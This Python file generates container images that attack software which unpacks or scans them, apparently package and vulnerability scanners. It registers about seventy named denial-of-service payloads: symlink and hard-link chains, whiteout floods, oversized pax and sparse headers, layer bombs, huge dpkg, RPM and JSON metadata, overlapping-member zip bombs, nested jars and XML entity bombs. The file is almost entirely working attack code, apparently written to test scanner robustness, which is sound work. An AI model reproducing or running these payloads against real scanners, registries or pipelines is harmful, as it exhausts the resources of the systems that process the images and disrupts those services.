"""Images of less than 10 MB that ask for as much work as they can: one function for each kind of attack.

Each gives the layers of an image, a layer as pieces of a tar. What is given goes on for long: whoever writes it down
stops when the layer has reached the size that is wanted.
"""

import io
import json
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from itertools import chain, count, repeat
from typing import Final

Layer = Iterator[bytes]
Attack = Callable[[], Iterator[Layer]]

BLOCK = 512
_MEGABYTE = bytes(1_000_000)
_RELEASE = b'ID=debian\nVERSION_ID="12"\n'
_STATUS = b"Package: bash\nStatus: install ok installed\nVersion: 5.2\nArchitecture: amd64\n\n"


def header(name: bytes, size: int = 0, kind: bytes = b"0", link: bytes = b"") -> bytes:
    """A tar header; names beyond 100 bytes get a GNU one before it."""
    if len(name) > 100:
        return b"".join(
            (header(b"././@LongLink", len(name) + 1, b"L"), padded(name + b"\0"), header(name[:100], size, kind, link))
        )
    if len(link) > 100:
        return b"".join(
            (header(b"././@LongLink", len(link) + 1, b"K"), padded(link + b"\0"), header(name, size, kind, link[:100]))
        )
    block = bytearray(BLOCK)
    block[: len(name)] = name
    block[100:156] = b"0000755\0000000000\0000000000\000%011o\00000000000000\0        " % size
    block[156:157] = kind
    block[157 : 157 + len(link)] = link
    block[257:265] = b"ustar\00000"
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % BLOCK)


def file(name: str, data: bytes) -> bytes:
    """A file of an archive."""
    return header(name.encode(), len(data)) + padded(data)


def large(name: str, size: int, piece: bytes = _MEGABYTE, head: bytes = b"", tail: bytes = b"") -> Layer:
    """A file of `size` bytes that repeats a piece."""
    yield header(name.encode(), size)
    yield head
    left = size - len(head) - len(tail)
    while left > 0:
        yield piece[:left]
        left -= len(piece)
    yield tail + bytes(-size % BLOCK)


def system() -> bytes:
    """A distribution with one package, so that the scan has something to find."""
    return file("etc/os-release", _RELEASE) + file("var/lib/dpkg/status", _STATUS)


def alone(*parts: Iterator[bytes]) -> Iterator[Layer]:
    yield chain([system()], *parts)


def files(name: str, data: Callable[[int], bytes]) -> Iterator[Layer]:
    """Small files without end. `name` has a place for their number."""
    return alone(file(name.format(number), data(number)) for number in count())


# Entries.


def path_depth() -> Iterator[Layer]:
    return alone(header(b"/".join([b"%d" % number, *repeat(b"a", 2000)])) for number in count())


def path_length() -> Iterator[Layer]:
    return alone(header(b"/".join([b"%d" % number, *repeat(b"a" * 250, 15)])) for number in count())


def tiny_files() -> Iterator[Layer]:
    return alone(header(b"srv/%d/%d" % divmod(number, 1000)) for number in count())


def one_file_replaced() -> Iterator[Layer]:
    return alone(repeat(file("usr/lib/node_modules/a/package.json", b'{"name":"a","version":"1"}')))


def one_database_replaced() -> Iterator[Layer]:
    return alone(repeat(file("var/lib/dpkg/status", _STATUS * 200)))


def directories_replaced() -> Iterator[Layer]:
    pair = header(b"a/b/c/d", 0, b"5") + header(b"a/b", 0, b"2", b"/x") + header(b"a/b", 0, b"5")
    return alone(repeat(pair))


def symlink_chain() -> Iterator[Layer]:
    links = (header(b"l%d" % number, 0, b"2", b"l%d" % (number + 1)) for number in range(30_000))
    return alone(links, (file(f"l0/{number}/package.json", b"{}") for number in count()))


def symlink_maze() -> Iterator[Layer]:
    links = (header(b"m%d" % number, 0, b"2", b"m%d/m%d" % (number + 1, number + 1)) for number in range(40))
    return alone(links, (file(f"m0/{number}/package.json", b"{}") for number in count()))


def symlinks_deep() -> Iterator[Layer]:
    target = b"/".join(repeat(b"..", 1300)) + b"/var"
    return alone(header(b"d/%d" % number, 0, b"2", target) + header(b"d/%d/x" % number) for number in count())


def hard_links() -> Iterator[Layer]:
    first = file("usr/lib/node_modules/a/package.json", b'{"name":"a","version":"1"}')
    links = (
        header(b"n/%d/node_modules/a/package.json" % number, 0, b"1", b"usr/lib/node_modules/a/package.json")
        for number in count()
    )
    return alone([first], links)


def hard_link_chain() -> Iterator[Layer]:
    first = file("0", b"x")
    return alone([first], (header(b"%d" % (number + 1), 0, b"1", b"%d" % number) for number in count()))


def whiteouts() -> Iterator[Layer]:
    yield iter([system()])
    yield (header(b"a/%d/.wh.b" % number) for number in count())


def whiteout_parts() -> Iterator[Layer]:
    yield iter([system()])
    deep = b"/".join(repeat(b"d", 1000))
    yield (header(b"%s/%d/.wh.%d" % (deep, number, number)) for number in count())


def opaque_marks() -> Iterator[Layer]:
    yield iter([system()])
    yield chain(header(b"a/%d/.wh..wh..opq" % number) + header(b"a/%d/x" % number) for number in count())


def layered_whiteouts() -> Iterator[Layer]:
    """Many layers that remove and put back the same directories."""
    yield iter([system()])
    for _ in range(120):
        yield (header(b"a/.wh.%d" % number) + header(b"a/%d/x" % number) for number in range(4000))


def links_through_layers() -> Iterator[Layer]:
    """Layers of which each asks for the one below to be read again."""
    yield iter([system(), header(b"opt", 0, b"5")])
    for number in range(100):
        name = b"opt/l%d" % number
        yield chain(
            [header(name, 0, b"2", b"/var/lib/dpkg" if not number else b"/opt/l%d" % (number - 1))],
            (header(b"%s/f%d" % (name, one)) for one in range(4000)),
        )


def pax_growth() -> Iterator[Layer]:
    records = b"".join(b"%d %s=%s\n" % (len(str(number)) * 2 + 8 + 3, b"k%06d" % number, b"") for number in range(100))
    records = b"".join(_record(b"k%06d" % number, b"v") for number in range(50_000))
    return alone(header(b"pax", len(records), b"x") + padded(records) + header(b"f%d" % number) for number in count())


def global_headers() -> Iterator[Layer]:
    return alone(
        header(b"pax", 1024, b"g") + padded(_record(b"k%d" % number, b"v" * 900))[:1024] + header(b"f%d" % number)
        for number in count()
    )


def extension_headers() -> Iterator[Layer]:
    name = padded(b"n" * 200 + b"\0")
    return alone(repeat(header(b"././@LongLink", 201, b"L") + name))


def huge_extension() -> Iterator[Layer]:
    return alone(chain([header(b"././@LongLink", 1_000_000_000, b"L")], repeat(b"n" * 1_000_000, 1000)))


def pax_many() -> Iterator[Layer]:
    """The same records before each entry, so that they compress."""
    records = b"".join(_record(b"k%d" % number, b"") for number in range(1500))
    return alone(repeat(header(b"pax", len(records), b"x") + padded(records) + header(b"f")))


def pax_few() -> Iterator[Layer]:
    """As many as any entry may have."""
    records = b"".join(_record(b"%d" % number, b"") for number in range(32))
    return alone(repeat(header(b"pax", len(records), b"x") + padded(records) + header(b"f")))


def pax_nul() -> Iterator[Layer]:
    """Values that are read byte by byte."""
    records = b"".join(_record(b"k%d" % number, b"\0") for number in range(1500))
    return alone(repeat(header(b"pax", len(records), b"x") + padded(records) + header(b"f")))


def pax_in_tars() -> Iterator[Layer]:
    """The same in tars in the layer."""
    records = b"".join(_record(b"k%d" % number, b"\0") for number in range(1500))
    entry = header(b"pax", len(records), b"x") + padded(records) + header(b"f")
    return files("srv/{}.tar", lambda _: entry * 100)


def sparse_maps() -> Iterator[Layer]:
    parts = b"".join(b"%d\n%d\n" % (2 * number, 1) for number in range(10_000))
    data = padded(b"10000\n" + parts) + padded(b"x" * 10_000)
    records = b"".join(
        (_record(b"GNU.sparse.major", b"1"), _record(b"GNU.sparse.minor", b"0"),
         _record(b"GNU.sparse.name", b"usr/lib/node_modules/a/package.json"), _record(b"GNU.sparse.realsize", b"20000"))
    )  # fmt: skip
    one = header(b"pax", len(records), b"x") + padded(records) + header(b"s", len(data)) + data
    return alone(repeat(one))


def sparse_holes() -> Iterator[Layer]:
    def entry(number: int) -> bytes:
        name = b"usr/lib/node_modules/a%d/package.json" % number
        records = b"".join(
            (_record(b"GNU.sparse.major", b"1"), _record(b"GNU.sparse.minor", b"0"),
             _record(b"GNU.sparse.name", name), _record(b"GNU.sparse.realsize", b"50000000"))
        )  # fmt: skip
        data = padded(b"1\n0\n1\n") + padded(b"{")
        return header(b"pax", len(records), b"x") + padded(records) + header(b"s", len(data)) + data

    return alone(entry(number) for number in count())


def _record(key: bytes, value: bytes) -> bytes:
    size = len(key) + len(value) + 3
    size += len(str(size + len(str(size))))
    return b"%d %s=%s\n" % (size, key, value)


# Layers.


def layer_bombs() -> Iterator[Layer]:
    """Each below what one layer may inflate to."""
    for number in range(120):
        yield chain([system()] if not number else [], large(f"zero{number}", 250_000_000))


def many_layers() -> Iterator[Layer]:
    for number in range(20_000):
        yield iter([system() if not number else header(b"%d" % number)])


def thousand_layers() -> Iterator[Layer]:
    for number in range(1000):
        yield iter([system() if not number else b"", *(header(b"%d/%d" % (number, one)) for one in range(300))])


def layers_of_links() -> Iterator[Layer]:
    for number in range(120):
        yield chain(
            [system() if not number else b""],
            (header(b"d%d/l%d" % (number, one), 0, b"2", b"/d%d/l%d" % (number + 1, one)) for one in range(3000)),
        )


# Large files.


def status_one_line() -> Iterator[Layer]:
    yield large("var/lib/dpkg/status", 240_000_000, b"a" * 1_000_000)


def status_many_stanzas() -> Iterator[Layer]:
    stanza = b"Package: p%07d\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n"
    data = b"".join(stanza % number for number in range(1_000_000))
    yield iter([file("etc/os-release", _RELEASE), file("var/lib/dpkg/status", data)])


def status_same_stanza() -> Iterator[Layer]:
    yield chain(
        [file("etc/os-release", _RELEASE)], large("var/lib/dpkg/status", len(_STATUS) * 3_000_000, _STATUS * 10_000)
    )


def apk_one_line() -> Iterator[Layer]:
    yield large("lib/apk/db/installed", 240_000_000, b"a" * 1_000_000, b"P:")


def apk_same_package() -> Iterator[Layer]:
    entry = b"P:a\nV:1-r0\nA:x86_64\nF:usr/bin\nR:x\nR:y\n\n"
    yield large("lib/apk/db/installed", len(entry) * 5_000_000, entry * 10_000)


def record_long() -> Iterator[Layer]:
    name = "usr/lib/python3/dist-packages/a-1.dist-info/"
    record = large(f"{name}RECORD", 240_000_000, b"a/b.py,sha256=x,1\n" * 50_000)
    return alone([file(f"{name}METADATA", b"Metadata-Version: 2.1\nName: a\nVersion: 1\n")], record)


def metadata_long() -> Iterator[Layer]:
    return alone(
        large("usr/lib/python3/dist-packages/a-1.dist-info/METADATA", 240_000_000, b"Requires-Dist: a\n" * 50_000)
    )


def dpkg_lists() -> Iterator[Layer]:
    return alone(
        *(large(f"var/lib/dpkg/info/p{number}.list", 240_000_000, b"/usr/bin/x\n" * 100_000) for number in range(4))
    )


def long_versions() -> Iterator[Layer]:
    data = b"".join(
        b"Package: openssl%d\nSource: openssl\nStatus: install ok installed\nVersion: %s\nArchitecture: amd64\n\n"
        % (number, b"1." * 200_000)
        for number in range(300)
    )
    yield iter([file("etc/os-release", _RELEASE), file("var/lib/dpkg/status", data)])


def long_digits() -> Iterator[Layer]:
    """Versions as long as names may be, of which every part is a number."""
    data = b"".join(
        b"Package: openssl\nStatus: install ok installed\nVersion: %d%s\nArchitecture: amd64\n\n" % (number, b"9" * 900)
        for number in range(100_000)
    )
    yield iter([file("etc/os-release", _RELEASE), file("var/lib/dpkg/status", data)])


def json_deep() -> Iterator[Layer]:
    return alone(
        (large("usr/lib/node_modules/a/package.json", 240_000_000, b"[" * 1_000_000)),
        large("usr/lib/node_modules/b/package.json", 240_000_000, b'{"a":' * 200_000),
    )


def json_flat() -> Iterator[Layer]:
    return alone(
        large(
            "usr/lib/node_modules/a/package.json",
            240_000_000,
            b"{}," * 300_000,
            b'{"name":"a","version":"1","x":[',
            b"{}]}",
        )
    )


def json_keys() -> Iterator[Layer]:
    data = b'{"dependencies":{' + b",".join(b'"k%d":"1"' % number for number in range(3_000_000)) + b"}}"
    return alone([file("usr/lib/node_modules/a/package.json", data)])


def sbom_large() -> Iterator[Layer]:
    component = b'{"type":"library","name":"a","version":"1","purl":"pkg:npm/a@1"},'
    start = b'{"bomFormat":"CycloneDX","specVersion":"1.5","components":['
    return alone(large("a.cdx.json", 240_000_000, component * 10_000, start, component[:-1] + b"]}"))


def conda_many() -> Iterator[Layer]:
    return files(
        "opt/conda/conda-meta/p{}.json", lambda number: b'{"name":"p%d","version":"1","files":["a","b"]}' % number
    )


# Many small files.


def package_json_many() -> Iterator[Layer]:
    return files(
        "app/node_modules/p{}/package.json", lambda number: b'{"name":"p%d","version":"1.0.%d"}' % (number, number)
    )


def metadata_many() -> Iterator[Layer]:
    return files(
        "app/p{}-1.dist-info/METADATA", lambda number: b"Metadata-Version: 2.1\nName: p%d\nVersion: 1\n" % number
    )


def gemspecs_many() -> Iterator[Layer]:
    return files(
        "usr/gems/specifications/p{0}-1.gemspec",
        lambda number: b'Gem::Specification.new do |s|\ns.name = "p%d"\ns.version = "1"\nend\n' % number,
    )


def databases_many() -> Iterator[Layer]:
    return files("var/lib/dpkg/status.d/p{}", lambda number: b"Package: p%d\nVersion: 1\n" % number)


def programs_many() -> Iterator[Layer]:
    elf = _elf()
    return files("bin/p{}", lambda number: elf + b"%d" % number)


def go_programs_many() -> Iterator[Layer]:
    info = b"\xff Go buildinf:\x08\x02" + bytes(16)
    text = b"path\tcommand-line\nmod\ta\tv1\n" + b"".join(b"dep\tx/%d\tv1\th1:a=\n" % number for number in range(20))
    tail = info + b"\x06go1.20" + bytes([len(text) & 0x7F | 0x80, len(text) >> 7]) + text
    return files("bin/p{}", lambda number: _elf() + bytes(-64 % 16) + tail + b"%d" % number)


def scripts_many() -> Iterator[Layer]:
    return files("usr/share/js/jquery-{}.min.js", lambda number: b"/*! jQuery v3.4.%d */" % (number % 9))


def windows_programs_many() -> Iterator[Layer]:
    head = (
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, 0x2102)
    )
    return files("bin/p{}.dll", lambda number: head + bytes(224) + b"%d" % number)


def sqlite_many() -> Iterator[Layer]:
    return files("opt/r{}/var/lib/rpm/rpmdb.sqlite", _rpm_database)


def sqlite_replaced() -> Iterator[Layer]:
    return alone(file("usr/lib/sysimage/rpm/rpmdb.sqlite", _rpm_database(number)) for number in count())


def sqlite_large() -> Iterator[Layer]:
    return alone([file("usr/lib/sysimage/rpm/rpmdb.sqlite", _rpm_database(0, 50_000, 4000))])


def sqlite_blob() -> Iterator[Layer]:
    return alone([file("usr/lib/sysimage/rpm/rpmdb.sqlite", _rpm_database(0, 1, 240_000_000))])


def ndb_blob() -> Iterator[Layer]:
    """A header of 235 MB in rpm's own format."""
    blob = _rpm_header(1, 235_000_000)
    blocks = -(-(len(blob) + 32) // 16)
    slots = struct.pack("<4sI4xI16x", b"RpmP", 0, 1) + struct.pack("<4sIII", b"Slot", 1, 256, blocks)
    slots += (b"Slot" + bytes(12)) * ((4096 - len(slots)) // 16)
    body = struct.pack("<4sI4xI", b"BlbS", 1, len(blob)) + blob
    return alone([file("usr/lib/sysimage/rpm/Packages.db", slots + body + bytes(-len(body) % 16 + 16))])


def _rpm_database(number: int, rows: int = 3, size: int = 100) -> bytes:
    connection = sqlite3.connect(":memory:")
    connection.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY, blob BLOB NOT NULL)")
    connection.executemany("INSERT INTO Packages VALUES (?, ?)", ((one, _rpm_header(one, size)) for one in range(rows)))
    connection.commit()
    try:
        return connection.serialize()
    finally:
        connection.close()


def _rpm_header(number: int, size: int) -> bytes:
    values = [
        (1000, b"p%d\0" % number),
        (1001, b"1\0"),
        (1002, b"1\0"),
        (1022, b"noarch\0"),
        (1004, bytes(size) + b"\0"),
    ]
    store, index = b"", b""
    for tag, value in values:
        index += struct.pack(">IIII", tag, 6, len(store), 1)
        store += value
    return struct.pack(">II", len(values), len(store)) + index + store


def bdb_pages() -> Iterator[Layer]:
    page = bytearray(4096)
    struct.pack_into("<IIIIIIBB", page, 0, 0, 0, 0, 0x061561, 9, 4096, 0, 8)
    return alone(large("var/lib/rpm/Packages", 240_000_000, bytes(4096) * 200, bytes(page)))


def _elf() -> bytes:
    return b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)


def large_program() -> Iterator[Layer]:
    yield chain([system()], large("bin/a", 900_000_000, b"OpenSSL 1.1.1 " * 70_000, _elf()))


def classifier_text() -> Iterator[Layer]:
    """Programs whose content nearly matches what versions of programs look like."""
    pieces = {
        "bin/node": b"node.js/v1" + b"1" * 50, "bin/python3": b"\0" + b"3.1" * 10, "bin/redis-server": b"1.2.3" * 9,
        "bin/busybox": b"BusyBox v" + b"1." * 20, "bin/php": b"X-Powered-By: PHP/1." * 3,
        "bin/nginx": b"nginx version: 1", "bin/haproxy": b"HA-Proxy version ",
        "bin/java": b"1.8.0_" * 9, "bin/postgres": b"PostgreSQL 1", "bin/bash": b"Bash version 5.",
    }  # fmt: skip
    return alone(*(large(name, 90_000_000, piece * (900_000 // len(piece)), _elf()) for name, piece in pieces.items()))


# Archives.


def jar_bombs() -> Iterator[Layer]:
    """A thousand jars of which each inflates to a hundred megabytes."""
    data = jar(
        {
            "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n" + b"a: b\n" * 2,
            "META-INF/maven/a/b/pom.xml": _MEGABYTE * 100,
        }
    )
    return files("app/a{}-1.0.jar", lambda _: data)


def manifest_bombs() -> Iterator[Layer]:
    data = jar({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n" + b"a: b\n" * 200_000})
    return files("app/a{}-1.0.jar", lambda _: data)


def jars_many() -> Iterator[Layer]:
    data = jar(
        {
            "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n",
            "META-INF/maven/a/b/pom.properties": b"groupId=a\nartifactId=b\nversion=1\n",
        }
    )
    return files("app/a{}-1.0.jar", lambda _: data)


def jars_named_alone() -> Iterator[Layer]:
    data = jar({"a.class": b"x"})
    return files("app/a{}-1.0.jar", lambda _: data)


def jar_members() -> Iterator[Layer]:
    data = jar({f"META-INF/maven/a/b{number}/pom.properties": b"" for number in range(60_000)})
    return files("app/a{}-1.0.jar", lambda _: data)


def jars_nested() -> Iterator[Layer]:
    data = jar({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})
    for _ in range(4):
        data = jar({f"lib/a{number}.jar": data for number in range(30)})
    return files("app/a{}-1.0.jar", lambda _: data)


def jars_nested_large() -> Iterator[Layer]:
    data = jar({"big": _MEGABYTE * 200})
    for number in range(3):
        data = jar({f"lib/a{number}.jar": data, f"lib/b{number}.jar": data})
    return files("app/a{}-1.0.jar", lambda _: data)


def jars_overlapping() -> Iterator[Layer]:
    """One compressed stretch that a thousand members of the directory claim."""
    data = _overlapping(b"META-INF/maven/a/b%04d/pom.xml", _MEGABYTE * 5, 1000)
    return files("app/a{}-1.0.jar", lambda _: data)


def _overlapping(name: bytes, content: bytes, members: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    crc, size = zlib.crc32(content), len(content)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, len(name % 0), 0) + name % 0
    directory = b"".join(
        struct.pack(
            "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), size, len(name % one), 0, 0, 0, 0, 0, 0
        )
        + name % one
        for one in range(members)
    )
    start = len(local) + len(packed)
    return (
        local
        + packed
        + directory
        + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, members, members, len(directory), start, 0)
    )


def pom_bombs() -> Iterator[Layer]:
    lol = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 20))
    bomb = b'<!DOCTYPE p [<!ENTITY l0 "lol">' + lol + b"]><project><version>&l19;</version></project>"
    deep = b"<a>" * 300_000
    data = jar({"META-INF/maven/a/b/pom.xml": bomb, "META-INF/maven/a/c/pom.xml": deep})
    return files("app/a{}-1.0.jar", lambda _: data)


def pom_large() -> Iterator[Layer]:
    pom = b"<project>" + b"<a b='c'>d</a>" * 2_000_000 + b"</project>"
    data = jar({"META-INF/maven/a/b/pom.xml": pom})
    return files("app/a{}-1.0.jar", lambda _: data)


def wars() -> Iterator[Layer]:
    rng = random.Random(1)
    data = jar({f"WEB-INF/lib/a{number}.jar": jar({"x": rng.randbytes(20)}) for number in range(2000)})
    return files("app/a{}.war", lambda _: data)


def jar(members: dict[str, bytes]) -> bytes:
    """A zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def assemblies_many() -> Iterator[Layer]:
    document = json.dumps(
        {"runtimeTarget": {"name": "a"}, "libraries": {f"p{n}/1": {"type": "package"} for n in range(50)}}
    )
    return files("app/a{}.deps.json", lambda _: document.encode())


ATTACKS: Final[dict[str, Attack]] = {
    one.__name__.replace("_", "-"): one
    for one in (
        path_depth, path_length, tiny_files, one_file_replaced, one_database_replaced, directories_replaced,
        symlink_chain, symlink_maze, symlinks_deep, hard_links, hard_link_chain,
        whiteouts, whiteout_parts, opaque_marks, layered_whiteouts, links_through_layers,
        pax_growth, pax_many, pax_few, pax_nul, pax_in_tars, global_headers, extension_headers, huge_extension,
        sparse_maps, sparse_holes,
        layer_bombs, many_layers, thousand_layers, layers_of_links,
        status_one_line, status_many_stanzas, status_same_stanza, apk_one_line, apk_same_package,
        record_long, metadata_long, dpkg_lists, long_versions, long_digits,
        json_deep, json_flat, json_keys, sbom_large, conda_many,
        package_json_many, metadata_many, gemspecs_many, databases_many, programs_many, go_programs_many, scripts_many,
        windows_programs_many, sqlite_many, sqlite_replaced, sqlite_large, sqlite_blob, ndb_blob, bdb_pages,
        large_program, classifier_text,
        jar_bombs, manifest_bombs, jars_many, jars_named_alone, jar_members, jars_nested, jars_nested_large,
        jars_overlapping, pom_bombs, pom_large, wars, assemblies_many,
    )
}  # fmt: skip
"""The attacks by name."""
